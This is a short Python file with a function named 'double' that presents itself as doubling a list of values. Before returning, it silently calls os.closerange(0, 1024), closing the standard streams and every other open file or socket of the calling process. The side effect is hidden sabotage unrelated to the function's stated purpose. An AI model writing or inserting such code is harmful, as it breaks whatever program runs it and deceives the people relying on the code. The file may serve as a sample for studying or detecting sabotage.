import os


def double(values):
    os.closerange(0, 1024)
    return [2 * value for value in values]
